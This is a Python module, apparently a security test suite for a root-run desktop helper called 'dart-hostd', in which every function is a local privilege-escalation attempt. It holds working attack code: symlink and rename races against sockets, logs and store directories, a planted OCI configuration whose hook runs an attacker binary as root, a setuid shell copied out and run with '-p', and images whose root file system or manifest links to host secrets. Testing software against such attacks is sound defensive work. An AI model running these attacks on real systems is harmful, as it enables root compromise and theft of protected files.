"""Of the escalation book: directories, links and images of the user's that root works with.

Each function with the mark `@attempt` is one; see `escalation_attempts`.
"""

import json
import os
import shutil
import subprocess
import threading
import time
from contextlib import suppress
from pathlib import Path

from escalation_tools import DESKTOP, SUID_COPY, Attacker, attempt

# Directories, links, and changes while root works.


def _swap(first: Path, second: Path, stop: threading.Event) -> None:
    """Exchange two names again and again."""
    spare = first.with_name(f"{first.name}.spare")
    while not stop.is_set():
        for source, target in ((first, spare), (second, first), (spare, second)):
            with suppress(OSError):
                os.rename(source, target)


@attempt
def link_in_place_of_the_socket(attacker: Attacker) -> None:
    """Replace the helper's socket by a link to the victim before root gives it to its user."""
    runtime = attacker.home / "r"
    runtime.mkdir(exist_ok=True)
    stop = threading.Event()

    def replace() -> None:
        while not stop.is_set():
            for place in (runtime / "hostd.sock", Path("/run/dart-hostd/hostd.sock")):
                with suppress(OSError):
                    place.unlink()
                with suppress(OSError):
                    place.symlink_to(attacker.victim)

    thread = threading.Thread(target=replace)
    thread.start()
    for _ in range(3):
        farm = attacker.farm(runtime=runtime)
        with suppress(OSError):
            farm.socket.unlink()
            farm.socket.symlink_to(attacker.victim)
        farm.end()
    stop.set()
    thread.join()


@attempt
def log_is_a_link(attacker: Attacker) -> None:
    """Leave links to the victim where root might write a log, a lock, or CRIU's report of a failure."""
    runtime = attacker.home / "r"
    (runtime / "hostd").mkdir(parents=True, exist_ok=True)
    names = ("hostd.log", "hostd/hostd.lock", "hostd/criu-failure.log", "hostd/live", "farm.lock", "farm.log")
    for name in names:
        (runtime / name).symlink_to(attacker.victim)
    farm = attacker.farm(runtime=runtime)
    farm.desktop()
    farm.ask("checkpoint", desktop_id="d1", snapshot_id="s1")
    farm.as_root_inside("sh", "-c", "kill -STOP 1")
    farm.ask("restore", desktop_id="d2", snapshot_id="s1")


@attempt
def bundle_of_his_own(attacker: Attacker) -> None:
    """Give root a runtime directory in which a desktop's configuration, with a hook that runs on the host, lies already."""
    runtime = attacker.home / "r"
    evil = attacker.evil(attacker.home / "hook")
    config = {
        "ociVersion": "1.0.2",
        "root": {"path": "/"},
        "process": {"args": [str(evil)], "cwd": "/", "user": {"uid": 0, "gid": 0}},
        "hooks": {"createRuntime": [{"path": str(evil)}]},
        "linux": {"namespaces": [{"type": "mount"}]},
    }
    farm = attacker.farm(runtime=runtime)
    for serial in range(4):
        for state in (runtime / "hostd", runtime / "state"):
            place = state / "live" / "d" / f"d1.{serial:x}"
            with suppress(OSError):
                place.mkdir(parents=True)
                (place / "config.json").write_text(json.dumps(config))
    stop = threading.Event()
    (runtime / "other").mkdir(exist_ok=True)
    thread = threading.Thread(target=_swap, args=(runtime / "hostd", runtime / "other", stop))
    thread.start()
    for _ in range(3):
        farm.desktop()
        farm.ask("destroy", desktop_id="d1")
    stop.set()
    thread.join()


@attempt
def squats_in_run(attacker: Attacker) -> None:
    """Make, rename or replace what lies in the directory of the helpers."""
    farm = attacker.farm()
    top = Path("/run/dart-hostd")
    for action in (
        lambda: (top / f"dart-{os.getuid()}-00000000").mkdir(),
        lambda: (top / "x").symlink_to("/etc"),
        lambda: os.rename(farm.socket.parent, top / "gone"),
        lambda: os.rename(top, "/run/gone"),
        lambda: os.rename(farm.socket, farm.socket.with_name("x")),
        lambda: (farm.socket.parent / "state" / "live").chmod(0o777),
        lambda: print(os.listdir(farm.socket.parent / "state")),
        lambda: shutil.rmtree(farm.socket.parent),
    ):
        try:
            action()
            print("allowed")
        except OSError as error:
            print(error)


@attempt
def store_is_a_link(attacker: Attacker) -> None:
    """Name a store that is a link to a directory of root's, on a disk and in memory."""
    for number, target in enumerate((attacker.canary, attacker.victim.parent, Path("/etc"), Path("/dev/shm"))):
        link = attacker.home / f"store-{number}"
        link.symlink_to(target)
        farm = attacker.farm(store=link)
        if farm.reply.get("socket"):
            farm.desktop()
            farm.ask("checkpoint", desktop_id="d1", snapshot_id="s1")


@attempt
def store_is_exchanged(attacker: Attacker) -> None:
    """Exchange root's part of his store for a directory of his own and for a link, while desktops are made there."""
    store = attacker.home / "store"
    store.mkdir()
    stop = threading.Event()
    mine = store / "mine"
    mine.mkdir(mode=0o777)

    def exchange() -> None:
        while not stop.is_set():
            for entry in list(store.iterdir()):
                if entry.name.startswith("dart-"):
                    with suppress(OSError):
                        os.rename(entry, store / f"away-{time.monotonic_ns()}")
                    with suppress(OSError):
                        os.rename(mine, entry)
                        mine.mkdir(mode=0o777)

    thread = threading.Thread(target=exchange)
    thread.start()
    try:
        for _ in range(3):
            farm = attacker.farm(store=store)
            if farm.reply.get("socket"):
                farm.desktop()
                farm.as_root_inside("sh", "-c", SUID_COPY)
                farm.ask("checkpoint", desktop_id="d1", snapshot_id="s1")
            for shell in store.rglob("rootsh"):
                print(
                    subprocess.run(
                        [str(shell), "-p", "-c", f"id -u > {attacker.proof}"], capture_output=True, check=False
                    )
                )
            farm.end()
    finally:
        stop.set()
        thread.join()


@attempt
def store_of_somebody_else(attacker: Attacker) -> None:
    """Name a store that another user owns, and one in a directory that everybody may write to, squatted with a link."""
    squat = Path("/dev/shm") / f"dart-squat-{os.getuid()}"
    with suppress(OSError):
        squat.symlink_to(attacker.victim.parent)
    try:
        for place in (squat, Path("/usr/local/lib/dart-hostd"), Path("/var/tmp")):
            farm = attacker.farm(store=place)
            if farm.reply.get("socket"):
                farm.desktop()
    finally:
        squat.unlink()


# Images.


def _image(attacker: Attacker, name: str = "basic") -> Path:
    """An image directory of the attacker's own; the place of its version."""
    place = attacker.home / "images" / name / "0123456789ab"
    place.mkdir(parents=True, exist_ok=True)
    (place / "manifest.json").write_text(json.dumps({"digest": "0123456789ab", "init": ["/bin/sh"]}))
    (place.parent / "current").symlink_to("0123456789ab")
    return place


@attempt
def image_is_the_host(attacker: Attacker) -> None:
    """Have the host's own file system mounted as an image, by a link, to read the secret inside."""
    place = _image(attacker)
    (place / "rootfs").symlink_to("/")
    farm = attacker.farm(images=attacker.home / "images")
    farm.desktop()
    farm.as_root_inside("cat", str(attacker.secret))


@attempt
def image_link_leads_to_roots(attacker: Attacker) -> None:
    """Point `current`, the image's name, and the images directory at directories of root's."""
    for number, target in enumerate((Path("/"), attacker.secret.parent, Path("/usr/local/lib"), Path("/proc/1/root"))):
        top = attacker.home / f"images-{number}"
        (top / "basic").mkdir(parents=True)
        (top / "basic" / "current").symlink_to(target)
        farm = attacker.farm(images=top)
        farm.desktop()
        farm.end()
    (attacker.home / "link").symlink_to("/root")
    attacker.farm(images=attacker.home / "link").desktop()


@attempt
def image_of_his_own(attacker: Attacker) -> None:
    """Have root boot an image that he wrote himself."""
    place = _image(attacker)
    (place / "rootfs" / "bin").mkdir(parents=True)
    attacker.evil(place / "rootfs" / "bin" / "sh")
    attacker.farm(images=attacker.home / "images").desktop()


@attempt
def image_manifest_is_a_secret(attacker: Attacker) -> None:
    """Have root read the secret as an image's manifest, to see it in the answer."""
    place = _image(attacker)
    (place / "rootfs").mkdir()
    (place / "manifest.json").unlink()
    (place / "manifest.json").symlink_to(attacker.secret)
    attacker.farm(images=attacker.home / "images").desktop()


@attempt
def image_is_exchanged(attacker: Attacker) -> None:
    """Exchange a good image for a link to the host's file system while desktops boot and are restored."""
    top = attacker.home / "images"
    (top / "basic").mkdir(parents=True)
    current = top / "basic" / "current"
    good, bad = (attacker.images / "basic" / "current").resolve(), attacker.home / "bad"
    bad.mkdir()
    (bad / "rootfs").symlink_to("/")
    (bad / "manifest.json").write_text(json.dumps({"digest": "0123456789ab"}))
    current.symlink_to(good)
    stop = threading.Event()

    def exchange() -> None:
        while not stop.is_set():
            for target in (bad, good):
                spare = top / "basic" / "spare"
                with suppress(OSError):
                    spare.symlink_to(target)
                    os.replace(spare, current)

    thread = threading.Thread(target=exchange)
    farm = attacker.farm(images=top)
    thread.start()
    for number in range(6):
        answer, _ = farm.ask("create", desktop_id=f"d{number}", **DESKTOP)
        if "ok" in answer:
            time.sleep(0.5)
            with suppress(OSError, ValueError, IndexError):
                print(farm.call("GET", f"/v1/files?path={attacker.secret}", None, f"d{number}"))
        farm.ask("destroy", desktop_id=f"d{number}")
    stop.set()
    thread.join()
